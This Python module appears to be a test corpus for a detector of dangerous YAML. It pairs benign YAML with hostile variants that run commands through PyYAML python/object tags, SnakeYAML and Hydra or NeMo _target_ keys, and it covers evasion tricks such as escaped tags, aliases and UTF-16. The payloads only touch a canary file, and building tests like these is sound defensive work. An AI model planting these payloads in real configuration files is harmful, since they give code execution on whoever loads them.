"""YAML whose tags and targets call what runs code, in the spellings that its loaders take."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from corpora.case import Case, Expectation, Technique

if TYPE_CHECKING:
    from collections.abc import Iterator

COMMAND: Final = "touch telamon-canary"
# Name: a hostile text, and the same construction without the payload.
TAGS: Final = {
    "apply (CVE-2017-18342)": (
        f"!!python/object/apply:os.system ['{COMMAND}']",
        "!!python/object/apply:datetime.date [2020, 1, 2]",
    ),
    "new (CVE-2020-1747)": (
        f"a: !!python/object/new:subprocess.Popen [[sh, -c, '{COMMAND}']]",
        "a: !!python/object/new:collections.Counter [[1]]",
    ),
    "new-type (CVE-2020-14343)": (
        "!!python/object/new:type\nargs: [z, !!python/tuple [], {extend: !!python/name:exec }]\nlistitems: 'import os'",
        "!!python/object/new:tuple\nargs: [[1, 2]]",
    ),
    "name": ("hook: !!python/name:os.system", "hook: !!python/name:collections.OrderedDict"),
    "keyword-arguments": (
        f"!!python/object/apply:subprocess.run\nkwds: {{args: '{COMMAND}', shell: true}}",
        "!!python/object/apply:datetime.timedelta\nkwds: {days: 1}",
    ),
    "tag-directive": (
        f"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['{COMMAND}']",
        "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!tuple [1, 2]",
    ),
    "verbatim-tag": (
        f"a: !<tag:yaml.org,2002:python/object/apply:os.popen> ['{COMMAND}']",
        "a: !<tag:yaml.org,2002:python/tuple> [1]",
    ),
    "escaped-tag": (f"a: !!p%79thon/object/appl%79:os.system ['{COMMAND}']", "a: !!p%79thon/tuple [1]"),
    "second-document": (
        f"a: 1\n---\nb: !!python/object/apply:os.system ['{COMMAND}']",
        "a: 1\n---\nb: !!python/tuple [1]",
    ),
    "tag-as-key": (f"? !!python/object/apply:os.system ['{COMMAND}']\n: 1", "? !!python/tuple [1]\n: 1"),
    "deep": (f"a: {'[' * 50}!!python/object/apply:os.system ['{COMMAND}']{']' * 50}", f"a: {'[' * 50}1{']' * 50}"),
    "before-a-broken-end": (
        f"a: !!python/object/apply:os.system ['{COMMAND}']\n---\n[",
        "a: !!python/tuple [1]\n---\n[1]",
    ),
    "builtins": ("!!python/object/apply:eval ['1 + 1']", "!!python/object/apply:builtins.complex [1, 2]"),
    "getattr": (
        "!!python/object/apply:builtins.getattr [!!python/module:os , system]",
        "!!python/object/apply:builtins.range [3]",
    ),
    "unknown-function": ("!!python/object/apply:package.module.run [1]", "!!python/object/apply:uuid.UUID [x]"),
    "snakeyaml (CVE-2022-1471)": (
        '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://example.invalid/"]]]]',
        "!!set {a, b}",
    ),
    "js-function": ('a: !!js/function "function () { return 1 }"', 'a: !!str "function () { return 1 }"'),
    "psych": ("--- !ruby/object:Gem::Installer\ni: x", "--- !Installer\ni: x"),
}
TARGETS: Final = {
    "hydra-target": (
        f"model:\n  _target_: os.system\n  command: {COMMAND}",
        "model:\n  _target_: torch.nn.Linear\n  in_features: 3",
    ),
    "nemo-target (CVE-2025-23304)": (
        "trainer:\n  callbacks:\n  - _target_: builtins.exec\n    _args_: ['1']",
        "trainer:\n  callbacks:\n  - _target_: lightning.pytorch.callbacks.EarlyStopping\n    monitor: loss",
    ),
    "subprocess": (
        f"_target_: subprocess.check_output\nargs: [sh, -c, '{COMMAND}']",
        "_target_: my.project.Net\nargs: [1]",
    ),
    "escaped-key": ('"_\\x74arget_": builtins.eval', '"_\\x74arget_": builtins.dict'),
    "aliased-key": ("a: &k _target_\nb: {*k : os.system}", "a: &k _target_\nb: {*k : datetime.date}"),
    "aliased-value": ("n: &n posix.system\nb: {_target_: *n}", "n: &n datetime.date\nb: {_target_: *n}"),
    "flow": ("{a: [{_target_: runpy.run_path, path_name: x.py}]}", "{a: [{_target_: pathlib.Path, x: x.py}]}"),
    "merged": ("base: &b {_target_: pty.spawn}\nx:\n  <<: *b", "base: &b {_target_: my.Net}\nx:\n  <<: *b"),
    "hydra-method": (
        "_target_: hydra.utils.get_method\npath: os.system",
        "_target_: hydra.utils.get_method\npath: my.metrics.score",
    ),
    "pickle": ("_target_: pickle.loads\n_args_: [x]", "_target_: json.loads\n_args_: ['1']"),
    "nemo-old-target": ("target: os.system", "target: nemo.collections.asr.models.EncDecCTCModel"),
    "handwritten-import": ("_target_: importlib.import_module\nname: evil", "_target_: fractions.Fraction"),
}
NAMES: Final = ("model_config.yaml", "config.yml")


def cases() -> Iterator[Case]:
    """Yield each construction under the names that such files have, and some without one."""
    for number, (name, (hostile, ordinary)) in enumerate((TAGS | TARGETS).items()):
        yield Case(
            name=f"yaml: {name}",
            technique=Technique.YAML,
            data=hostile.encode(),
            expectation=Expectation.FLAGGED,
            twin=ordinary.encode(),
            file_name=NAMES[number % 2],
        )
    directive, plain = TAGS["tag-directive"]
    yield Case(
        name="yaml: no name tells",
        technique=Technique.YAML,
        data=directive.encode(),
        expectation=Expectation.FLAGGED,
        twin=plain.encode(),
        file_name="settings",
    )
    yield Case(
        name="yaml: in UTF-16",
        technique=Technique.YAML,
        data=TAGS["name"][0].encode("utf-16"),
        expectation=Expectation.FLAGGED,
        twin=TAGS["name"][1].encode("utf-16"),
        file_name="settings.yaml",
    )
